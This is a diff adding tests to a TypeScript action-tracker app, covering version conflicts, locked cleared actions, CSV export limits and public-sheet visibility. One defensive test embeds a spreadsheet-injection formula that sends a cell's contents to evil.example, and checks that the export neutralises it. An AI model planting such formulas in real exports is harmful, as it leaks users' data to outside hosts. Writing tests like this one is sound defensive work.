@@ -1,13 +1,17 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { parse } from 'csv-parse/sync'
 import type { Database } from '../../platform/db/client.ts'
+import { sql } from 'drizzle-orm'
 import { addDays, londonToday } from '../../shared/dates.ts'
 import { createTestDatabase } from '../../../test/support/db.ts'
 import { Agent, createTestApp, signedInAgent } from '../../../test/support/app.ts'
 import { buildAgendaItem, buildBody, buildMeeting, buildPartnership, buildPerson } from '../../../test/support/builders.ts'
 import { buildAction, buildActionUpdate } from '../../../test/support/action-builders.ts'
+import { buildMaAction } from '../../../test/support/action-builders-ma.ts'
 import { actionPaths } from './actions.paths.ts'
+import { CSV_MAX_ROWS } from './actions.service.ts'
 import { meetingPaths } from '../meetings/meetings.paths.ts'
+import { seedDemoIfEmpty } from '../demo/demo.seed.ts'
 
 let database: Database
 let t: ReturnType<typeof createTestApp>
@@ -156,6 +160,52 @@ describe('the action page', () => {
     expect(saved.status).toBe(303)
   })
 
+  it('an update that changes the status carries the version: stale is a 409 keeping the text, with the new version', async () => {
+    const { meeting } = await ourItem()
+    const action = await buildAction(database.db, { meetingId: meeting.id })
+    const page = await staff.getText(P.action(action.id))
+    expect(page.text).toContain('<input type="hidden" name="version" value="1">')
+    // Someone else moves it on while the form is open.
+    await t.services.actions.changeStatus(await adminUser(), action.id, { statusTo: 'in_progress' })
+    const res = await staff.post(P.addUpdate(action.id), { text: 'Done, typed carefully', statusTo: 'completed', version: '1' })
+    expect(res.status).toBe(409)
+    const html = await res.text()
+    expect(html).toContain('Someone else changed this')
+    expect(html).toContain('Done, typed carefully')
+    expect(html).toContain('<input type="hidden" name="version" value="2">')
+    expect((await t.services.actions.getAction(action.id)).status).toBe('in_progress')
+    // An update alone does not depend on the status seen: a stale version does not stop it.
+    expect((await staff.post(P.addUpdate(action.id), { text: 'Just words', version: '1' })).status).toBe(303)
+    const again = await staff.post(P.addUpdate(action.id), { text: 'Done, typed carefully', statusTo: 'completed', version: '2' })
+    expect(again.status).toBe(303)
+    expect((await t.services.actions.getAction(action.id)).status).toBe('completed')
+  })
+
+  it('a cleared or dropped action cannot be edited: no link on its page, and the form and save are refused', async () => {
+    const { meeting } = await ourItem()
+    const cleared = await buildAction(database.db, {
+      meetingId: meeting.id,
+      description: 'As minuted',
+      status: 'cleared',
+      clearedAtMeetingId: meeting.id,
+      clearedAt: new Date(),
+    })
+    const dropped = await buildAction(database.db, { meetingId: meeting.id, status: 'dropped', droppedReason: 'overtaken' })
+    for (const a of [cleared, dropped]) {
+      const page = await staff.getText(P.action(a.id))
+      expect(page.status).toBe(200)
+      expect(page.text).not.toContain(`href="${P.editAction(a.id)}"`)
+      const form = await staff.getText(P.editAction(a.id))
+      expect(form.status).toBe(409)
+      expect(form.text).toContain('so it can no longer be changed')
+    }
+    const res = await staff.post(P.editAction(cleared.id), { description: 'Rewritten history', groups: 'Executive', version: '1' })
+    expect(res.status).toBe(409)
+    expect((await t.services.actions.getAction(cleared.id)).description).toBe('As minuted')
+    const open = await buildAction(database.db, { meetingId: meeting.id })
+    expect((await staff.getText(P.action(open.id))).text).toContain(`href="${P.editAction(open.id)}"`)
+  })
+
   it('links actions of the same body and shows both sides', async () => {
     const { meeting } = await ourItem()
     const a = await buildAction(database.db, { meetingId: meeting.id, description: 'Executive to consider the outcomes' })
@@ -263,6 +313,39 @@ describe('the tracker page and CSV', () => {
     expect(filtered).toHaveLength(27)
     expect(filtered.slice(1).every((r) => r[5] === 'completed' && r[10] === 'no')).toBe(true)
   })
+
+  it('neutralises formulas that owners write in descriptions and updates', async () => {
+    const p = await buildPartnership(database.db)
+    const agent = await signedInAgent(t.app, t.services, { secretariatOf: [p.id] })
+    const body = await buildBody(database.db, { partnershipId: p.id })
+    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
+    const action = await buildAction(database.db, { bodyId: body.id, description: formula })
+    await buildActionUpdate(database.db, { actionId: action.id, text: '@SUM(1+1)' })
+    const text = new TextDecoder().decode(new Uint8Array(await (await agent.get(P.trackerCsv())).arrayBuffer()))
+    const [, row]: string[][] = parse(text, { bom: true })
+    expect(row![3]).toBe(`'${formula}`)
+    expect(row![11]).toBe(`'@SUM(1+1)`)
+  })
+
+  it('refuses, with a 400 asking to narrow the filters, an export larger than the CSV can hold', async () => {
+    const p = await buildPartnership(database.db)
+    const agent = await signedInAgent(t.app, t.services, { secretariatOf: [p.id] })
+    const body = await buildBody(database.db, { partnershipId: p.id })
+    await database.db.execute(
+      sql`insert into actions (body_id, description, raised_on) select ${body.id}::uuid, 'bulk ' || n, date '2016-07-19' from generate_series(1, ${CSV_MAX_ROWS + 1}::int) n`,
+    )
+    const res = await agent.get(P.trackerCsv())
+    expect(res.status).toBe(400)
+    expect(res.headers.get('content-type')).toContain('text/html')
+    const html = await res.text()
+    expect(html).toContain('20,001 actions match these filters, but a CSV export can hold at most 20,000')
+    expect(html).toContain('href="#q"')
+    // Narrowed to within the limit, it downloads.
+    await database.db.execute(sql`update actions set status = 'completed' where body_id = ${body.id} and description = 'bulk 1'`)
+    const narrowed = await agent.get(`${P.trackerCsv()}?status=completed`)
+    expect(narrowed.status).toBe(200)
+    expect(parse(new TextDecoder().decode(new Uint8Array(await narrowed.arrayBuffer())), { bom: true })).toHaveLength(2)
+  }, 60_000)
 })
 
 describe('the public action sheet', () => {
@@ -284,6 +367,22 @@ describe('the public action sheet', () => {
     const unpublished = await buildMeeting(database.db, { bodyId: body.id, date: '2016-11-22' }, 'agendaPublished')
     const unpublishedItem = await buildAgendaItem(database.db, { meetingId: unpublished.id })
     await buildAction(database.db, { itemId: unpublishedItem.id, description: 'CANARY-MINUTES-NOT-PUBLISHED', isPublic: true })
+    // Minutes in draft, but the agenda was never published: not public either.
+    const neverPublished = await buildMeeting(database.db, { bodyId: body.id, date: '2016-10-11', agendaPublishedAt: null }, 'minutesDraft')
+    await buildAction(database.db, { itemId: (await buildAgendaItem(database.db, { meetingId: neverPublished.id })).id, description: 'CANARY-AGENDA-NOT-PUBLISHED' })
+    // Raised at a meeting with no item (as the seed's 19 July 2016 actions): the meeting is the source.
+    await buildMaAction(database.db, {
+      bodyId: body.id,
+      meetingId: meeting.id,
+      raisedOn: '2016-07-19',
+      description: 'ITEMLESS-CLEARED',
+      status: 'cleared',
+      clearedAtMeetingId: meeting.id,
+      clearedAt: new Date('2016-09-27T16:00:00Z'),
+    })
+    await buildMaAction(database.db, { bodyId: body.id, meetingId: neverPublished.id, raisedOn: '2016-10-11', description: 'CANARY-ITEMLESS-UNPUBLISHED' })
+    await buildMaAction(database.db, { bodyId: body.id, meetingId: unpublished.id, raisedOn: '2016-11-22', description: 'CANARY-ITEMLESS-NO-MINUTES' })
+    await buildMaAction(database.db, { bodyId: body.id, description: 'CANARY-NO-SOURCE' })
 
     const anon = new Agent(t.app)
     const page = await anon.getText(actionPaths.public.bodyActions(body.slug))
@@ -296,9 +395,13 @@ describe('the public action sheet', () => {
     expect(page.text).not.toContain('CANARY-SUB-EXEMPT')
     expect(page.text).not.toContain('CANARY-DROPPED')
     expect(page.text).not.toContain('CANARY-MINUTES-NOT-PUBLISHED')
+    expect(page.text).not.toContain('CANARY-AGENDA-NOT-PUBLISHED')
+    expect(page.text).not.toContain('CANARY-ITEMLESS')
+    expect(page.text).not.toContain('CANARY-NO-SOURCE')
     const [current, cleared] = page.text.split('id="cleared"')
     expect(current).toContain('CANARY-PUBLIC-OPEN')
     expect(cleared).toContain('CANARY-CLEARED')
+    expect(cleared).toContain('ITEMLESS-CLEARED')
     expect(cleared).toContain('27 September 2016')
 
     const bodyPage = await anon.getText(`/bodies/${body.slug}`)
@@ -310,3 +413,27 @@ describe('the public action sheet', () => {
 async function adminUser() {
   return { id: (await import('../../../test/support/builders.ts').then((m) => m.buildUser(database.db, { isAdmin: true }))).id, email: 'x@example.org', displayName: 'Admin', isAdmin: true, secretariatOf: [], memberOf: [] }
 }
+
+describe('the public action sheet of the demo', () => {
+  it('lists the four actions raised at the Executive of 19 July 2016 (no item: the meeting is their source) as cleared', async () => {
+    const demo = await createTestDatabase()
+    try {
+      const app = createTestApp(demo)
+      expect(await seedDemoIfEmpty(app.services)).toBe(true)
+      const page = await new Agent(app.app).getText(actionPaths.public.bodyActions('chorley-public-services-reform-executive'))
+      expect(page.status).toBe(200)
+      const cleared = page.text.split('id="cleared"')[1]!
+      for (const words of [
+        'send a collective response to LCC',
+        'consider the outcomes of the work so far',
+        'arrange discussions across each organisation',
+        'bring the proposal back to the Executive',
+      ]) {
+        expect(cleared).toContain(words)
+      }
+      expect(app.logger.errors).toEqual([])
+    } finally {
+      await demo.close()
+    }
+  }, 60_000)
+})
